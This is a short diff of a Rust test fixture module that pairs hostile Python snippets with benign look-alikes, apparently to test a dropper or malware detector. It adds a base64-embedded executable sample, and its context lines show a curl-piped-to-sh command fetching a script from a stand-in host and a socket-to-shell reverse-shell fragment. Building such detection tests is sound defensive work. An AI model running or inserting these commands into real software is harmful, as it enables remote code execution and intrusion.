@@ -293,6 +293,11 @@ mod fixtures {
             "os.system('curl -s https://example.invalid/i.sh | sh')",
             "os.system('curl -s https://example.invalid/data.json -o data.json')",
         ),
+        (
+            "dropper-embedded-executable",
+            "exe = base64.b64decode('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA')",
+            "png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')",
+        ),
         ("dropper-reverse-shell", "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')", "os.dup2(fd.fileno(), 1)"),
         (
             "dropper-exec-remote-code",
